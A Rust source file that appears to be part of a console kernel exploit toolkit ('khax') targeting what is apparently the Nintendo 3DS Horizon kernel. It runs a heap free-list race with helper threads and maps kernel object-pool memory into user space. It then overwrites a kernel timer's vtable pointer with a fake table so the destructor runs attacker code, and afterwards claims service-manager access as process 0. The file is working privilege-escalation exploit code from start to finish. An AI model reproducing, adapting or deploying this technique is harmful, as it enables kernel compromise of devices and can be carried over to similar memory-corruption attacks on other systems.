use crate::payload::{FORWARDERS, VtableFixups, hijacked_destructor};
use khax_core::error::HostOp;
use khax_core::host::{ArbitrationType, Handle, Horizon, MemOp, MemPerm, ResetType};
use khax_core::kernel::ktimer::{DESTRUCTOR_SLOT, VTABLE_LEN, VTABLE_OFFSET};
use khax_core::memory::free_block::{FREE_BLOCK_SIZE, NEXT_OFFSET, free_block};
use khax_core::memory::{KernelAddr, PageSet, PhysAddr, VirtAddr};
use khax_core::session::SessionCore;
use khax_core::util::{PAGE_SIZE, USER_SPACE_END, poll_until, read_u32, spawn_cancelable, write_u32};
use khax_core::version::VersionDescriptor;
use khax_core::{Exploit, KhaxConfig, KhaxError, Result, ResultCode, TechniqueKind, grant};
use log::{debug, info, warn};
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

/// Number of heap pages the session tracks.
pub const PAGE_COUNT: usize = 4;
/// Number of steps.
pub const STEP_COUNT: u32 = 4;

/// Index of the page kept free while the race runs.
const ISOLATED_PAGE: usize = 0;
/// Index of the first page committed by the racing allocation.
const FIRST_TARGET: usize = 2;
/// Index of the page that ends up backed by the object pool.
const ALIAS_PAGE: usize = 3;

const STEP_NAMES: [&str; STEP_COUNT as usize] = [
    "initialize",
    "isolate page",
    "race and hijack",
    "grant service access",
];

/// What the user side of the race leaves behind.
struct RaceResult {
    backup: Vec<u8>,
}

/// Vtable hijack session.
///
/// The heap pages after the race:
///
/// ```text
/// page 0   freed before the race; its free-list node is the one we rewrite
/// page 1   plain allocation keeping page 0 isolated
/// page 2   first page of the racing allocation, backed by page 0's memory
/// page 3   second page of the racing allocation, backed by the object pool
/// ```
///
/// Page 3 is pinned. Freeing it would hand object pool memory to the heap.
pub struct VtableHax<H: Horizon + 'static> {
    core: SessionCore<H>,
    saved_cpu_limit: Option<u32>,
    pages: Option<PageSet>,
    timer: Option<Handle>,
    arbiter: Option<Handle>,
    table: Option<VirtAddr>,
}

impl<H: Horizon + 'static> VtableHax<H> {
    /// Registers a session for `descriptor`.
    ///
    /// Fails with [`KhaxError::Unsupported`] for kernels without an object
    /// pool mapping and with [`KhaxError::SessionActive`] while another
    /// session is registered.
    pub fn new(host: Arc<H>, descriptor: &'static VersionDescriptor, config: KhaxConfig) -> Result<Self> {
        if descriptor.technique() != Some(TechniqueKind::VtableHijack) {
            return Err(KhaxError::Unsupported {
                kernel: descriptor.kernel_version,
                technique: TechniqueKind::VtableHijack,
            });
        }
        let core = SessionCore::new(
            "vtable hijack",
            STEP_COUNT,
            host,
            descriptor,
            config,
            VtableFixups::default(),
        )?;
        Ok(VtableHax {
            core,
            saved_cpu_limit: None,
            pages: None,
            timer: None,
            arbiter: None,
            table: None,
        })
    }

    /// The heap pages, once step 2 ran.
    pub fn pages(&self) -> Option<&PageSet> {
        self.pages.as_ref()
    }

    /// Session state shared with the kernel payload.
    pub fn shared(&self) -> &khax_core::session::SessionShared {
        self.core.shared()
    }

    fn fixups(&self) -> Result<&VtableFixups> {
        self.core
            .shared()
            .fixups::<VtableFixups>()
            .ok_or(KhaxError::PayloadNotRun)
    }

    /// Step 1: give the helper threads a share of the application core.
    pub fn step1_initialize(&mut self) -> Result<()> {
        self.core.begin(1)?;
        let host = self.core.host();
        let limit = host.app_cpu_time_limit().op("APT_GetAppCpuTimeLimit")?;
        host.set_app_cpu_time_limit(self.core.config().cpu_time_limit)
            .op("APT_SetAppCpuTimeLimit")?;
        debug!(
            "cpu time limit {}% -> {}%",
            limit,
            self.core.config().cpu_time_limit
        );
        self.saved_cpu_limit = Some(limit);
        self.core.complete(1);
        Ok(())
    }

    /// Step 2: commit two pages at the end of the heap and free the first,
    /// leaving a one-page free block at the head of the free list.
    pub fn step2_isolate_page(&mut self) -> Result<()> {
        self.core.begin(2)?;
        let host = self.core.host();
        let base = host.heap_end();
        host.control_memory(MemOp::Alloc, base, 2 * PAGE_SIZE, MemPerm::ReadWrite)
            .op("svcControlMemory")?;
        let mut pages = PageSet::empty(base, PAGE_COUNT);
        pages.mark_allocated(ISOLATED_PAGE);
        pages.mark_allocated(ISOLATED_PAGE + 1);
        let freed = pages.free_page(host, ISOLATED_PAGE);
        self.pages = Some(pages);
        freed.op("svcControlMemory")?;
        debug!("isolated page {}", base);
        self.core.complete(2);
        Ok(())
    }

    /// Step 3: redirect the isolated page's free-list link into the object
    /// pool while the kernel commits it, then swap the timer's vtable.
    pub fn step3_race_and_hijack(&mut self) -> Result<()> {
        self.core.begin(3)?;
        let descriptor = self.core.descriptor();
        let slab = descriptor.slab.ok_or(KhaxError::Unsupported {
            kernel: descriptor.kernel_version,
            technique: TechniqueKind::VtableHijack,
        })?;
        let base = self
            .pages
            .as_ref()
            .map(PageSet::base)
            .ok_or(KhaxError::OutOfMemory(PAGE_SIZE))?;

        let (timer, object) = self
            .core
            .host()
            .create_timer_raw(ResetType::OneShot)
            .op("svcCreateTimer")?;
        self.timer = Some(timer);
        if !slab.contains_virt(object) {
            return Err(KhaxError::ObjectOutsidePool(object));
        }
        let slab_page = slab
            .virt_to_phys(object.page_base())
            .ok_or(KhaxError::ObjectOutsidePool(object))?;
        let alias = descriptor.fcram.alias_for_phys(slab_page);
        debug!("timer {} in pool page {} (alias {})", object, slab_page, alias);

        let arbiter = self
            .core
            .host()
            .create_address_arbiter()
            .op("svcCreateAddressArbiter")?;
        self.arbiter = Some(arbiter);

        let target = base + (FIRST_TARGET * PAGE_SIZE) as u32;
        let race = self.race(arbiter, target, alias);
        self.claim_race_pages(slab_page);
        let race = race?;
        info!("object pool page {} mapped at {}", slab_page, target + PAGE_SIZE as u32);

        self.hijack(timer, object, race.backup)?;

        if let Some(arbiter) = self.arbiter.take() {
            if let Err(code) = self.core.host().close_handle(arbiter) {
                warn!("failed to close arbiter: {}", code);
            }
        }
        self.core.complete(3);
        Ok(())
    }

    /// Runs the helper threads and the user side of the race.
    fn race(&self, arbiter: Handle, target: VirtAddr, alias: KernelAddr) -> Result<RaceResult> {
        let host = self.core.host();
        let config = self.core.config();
        let spinner = spawn_cancelable(
            host,
            config.helper_priority,
            config.helper_processor,
            |running| {
                while running.load(Ordering::Relaxed) {
                    std::hint::spin_loop();
                }
            },
        )
        .op("svcCreateThread")?;
        let mapper_host = self.core.host_arc();
        let mapper = match spawn_cancelable(
            host,
            config.helper_priority,
            config.helper_processor,
            move |_| {
                mapper_host.control_memory(MemOp::Alloc, target, 2 * PAGE_SIZE, MemPerm::ReadWrite)
            },
        ) {
            Ok(mapper) => mapper,
            Err(code) => {
                spinner.join();
                return Err(KhaxError::Host {
                    op: "svcCreateThread",
                    code,
                });
            }
        };

        let raced = self.rewrite_headers(arbiter, target, alias);
        let mapped = mapper.join();
        spinner.join();
        let mapped = match mapped {
            Some(Ok(addr)) => addr,
            Some(Err(code)) => {
                return Err(KhaxError::Host {
                    op: "svcControlMemory",
                    code,
                });
            }
            None => return Err(KhaxError::HelperThread),
        };
        debug!("racing allocation committed at {}", mapped);
        let race = raced?;
        // The kernel consumed the repair node while committing the second page.
        self.core.corruption().lower(1);
        Ok(race)
    }

    /// Spins until `page` is mapped.
    fn wait_mapped(&self, arbiter: Handle, page: VirtAddr, what: &'static str) -> Result<()> {
        let host = self.core.host();
        poll_until(self.core.config().race_timeout, || {
            match host.arbitrate_address(
                arbiter,
                page,
                ArbitrationType::WaitIfLessThanTimeout,
                i32::MIN,
                Duration::ZERO,
            ) {
                Err(ResultCode::INVALID_ADDRESS) => None,
                _ => Some(()),
            }
        })
        .ok_or(KhaxError::RaceTimeout(what))
    }

    fn rewrite_headers(&self, arbiter: Handle, target: VirtAddr, alias: KernelAddr) -> Result<RaceResult> {
        let host = self.core.host();

        self.wait_mapped(arbiter, target, "first racing page")?;
        let mut header = [0u8; FREE_BLOCK_SIZE];
        host.read(target, &mut header).op("read")?;
        let original_next = KernelAddr::new(read_u32(&header, NEXT_OFFSET));
        host.write_word(target + NEXT_OFFSET as u32, alias.as_u32())
            .op("write")?;
        self.core.corruption().raise(1);
        debug!("free block next {} -> {}", original_next, alias);

        let second = target + PAGE_SIZE as u32;
        self.wait_mapped(arbiter, second, "second racing page")?;
        let mut backup = vec![0u8; PAGE_SIZE];
        host.read(second, &mut backup).op("read")?;
        let repair = free_block(1, original_next, KernelAddr::NULL);
        host.write(second, repair.as_bytes()).op("write")?;

        Ok(RaceResult { backup })
    }

    /// Records the pages the racing allocation committed.
    fn claim_race_pages(&mut self, slab_page: PhysAddr) {
        let host = self.core.host();
        let Some(pages) = self.pages.as_mut() else {
            return;
        };
        let first = pages.page(FIRST_TARGET);
        if host.get_phys(first).is_none() {
            return;
        }
        pages.mark_allocated(FIRST_TARGET);
        pages.mark_allocated(ALIAS_PAGE);
        if host.get_phys(pages.page(ALIAS_PAGE)) == Some(slab_page) {
            pages.pin(ALIAS_PAGE);
        }
    }

    /// Writes the object page back with the vtable pointer aimed at a table
    /// of forwarders and closes the timer.
    fn hijack(&mut self, timer: Handle, object: KernelAddr, mut backup: Vec<u8>) -> Result<()> {
        let pinned = self.pages.as_ref().is_some_and(|p| p.is_pinned(ALIAS_PAGE));
        if !pinned {
            return Err(KhaxError::RaceLost("second page is not backed by the object pool"));
        }
        let alias_page = self
            .pages
            .as_ref()
            .map(|p| p.page(ALIAS_PAGE))
            .ok_or(KhaxError::OutOfMemory(PAGE_SIZE))?;

        let slot = (object.page_offset() + VTABLE_OFFSET) as usize;
        let original = KernelAddr::new(read_u32(&backup, slot));
        if original.as_u32() < USER_SPACE_END || original.as_u32() % 4 != 0 {
            return Err(KhaxError::RaceLost("object page holds no vtable"));
        }
        self.fixups()?.set(original, object);

        let host = self.core.host();
        let table_len = VTABLE_LEN * 4;
        let table = host
            .linear_alloc(table_len, 4)
            .ok_or(KhaxError::OutOfMemory(table_len))?;
        self.table = Some(table);
        let mut entries = vec![0u8; table_len];
        for (i, forwarder) in FORWARDERS.iter().enumerate() {
            let entry = if i == DESTRUCTOR_SLOT {
                host.kernel_entry_address(hijacked_destructor)
            } else {
                host.kernel_entry_address(*forwarder)
            };
            write_u32(&mut entries, 4 * i, entry);
        }
        host.write(table, &entries).op("write")?;
        host.flush_data_cache(table, table_len)
            .op("GSPGPU_FlushDataCache")?;
        debug!("fake vtable at {} (original {})", table, original);

        write_u32(&mut backup, slot, table.as_u32());
        host.write(alias_page, &backup).op("write")?;
        self.core.corruption().raise(1);

        self.timer = None;
        host.close_handle(timer).op("svcCloseHandle")?;
        if !self.core.shared().payload_ran() {
            return Err(KhaxError::PayloadNotRun);
        }
        info!("timer destructor hijacked");
        Ok(())
    }

    /// Step 4: reconnect to the service manager as process 0.
    pub fn step4_grant_service_access(&mut self) -> Result<()> {
        self.core.begin(4)?;
        grant::grant_service_access(self.core.host())?;
        self.core.complete(4);
        Ok(())
    }
}

impl<H: Horizon + 'static> Exploit for VtableHax<H> {
    fn kind(&self) -> TechniqueKind {
        TechniqueKind::VtableHijack
    }

    fn step_count(&self) -> u32 {
        STEP_COUNT
    }

    fn step_name(&self, step: u32) -> &'static str {
        step.checked_sub(1)
            .and_then(|i| STEP_NAMES.get(i as usize))
            .copied()
            .unwrap_or("invalid")
    }

    fn next_step(&self) -> u32 {
        self.core.steps().next()
    }

    fn run_step(&mut self, step: u32) -> Result<()> {
        match step {
            1 => self.step1_initialize(),
            2 => self.step2_isolate_page(),
            3 => self.step3_race_and_hijack(),
            4 => self.step4_grant_service_access(),
            _ => Err(KhaxError::Sequence {
                session: "vtable hijack",
                requested: step,
                expected: self.next_step(),
            }),
        }
    }

    fn corruption_level(&self) -> u32 {
        self.core.corruption().get()
    }

    fn allocated_mask(&self) -> u32 {
        self.pages.as_ref().map_or(0, PageSet::allocated_mask)
    }
}

impl<H: Horizon + 'static> Drop for VtableHax<H> {
    fn drop(&mut self) {
        self.core.park_if_corrupted();
        let host = self.core.host();
        if let Some(pages) = self.pages.as_mut() {
            pages.release(host);
        }
        for handle in [self.timer.take(), self.arbiter.take()].into_iter().flatten() {
            if let Err(code) = host.close_handle(handle) {
                warn!("failed to close handle {:?}: {}", handle, code);
            }
        }
        if let Some(table) = self.table.take() {
            host.linear_free(table);
        }
        if let Some(limit) = self.saved_cpu_limit.take() {
            if let Err(code) = host.set_app_cpu_time_limit(limit) {
                warn!("failed to restore cpu time limit: {}", code);
            }
        }
    }
}
